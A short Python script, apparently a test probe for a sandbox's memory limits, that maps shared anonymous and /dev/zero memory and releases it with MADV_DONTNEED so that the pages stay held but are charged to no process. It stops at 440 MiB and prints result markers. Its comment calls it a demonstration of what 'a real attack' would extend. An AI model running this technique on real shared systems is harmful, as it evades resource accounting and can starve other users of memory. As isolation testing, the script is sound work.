import mmap
import time

# A shared map without a file keeps its pages when a process lets go of them: they are held, and stand on no
# process's account. Twice the limit is enough to show it; a real attack would go on.
ENOUGH = 440 << 20
BLOCK = 8 << 20
held = []
for source in ("", "/dev/zero"):
    try:
        while sum(map(len, held)) < ENOUGH:
            file = open(source, "r+b").fileno() if source else -1
            memory = mmap.mmap(file, BLOCK, mmap.MAP_SHARED | (0 if source else mmap.MAP_ANONYMOUS))
            held.append(memory)
            for at in range(0, BLOCK, 4096):
                memory[at] = 1
            memory.madvise(mmap.MADV_DONTNEED)
    except OSError:
        continue
time.sleep(0.5)
total = sum(map(len, held))
if total >= ENOUGH:
    print(f"REACHED {total >> 20} MiB that nobody counts", flush=True)
print("TRIED 1", flush=True)
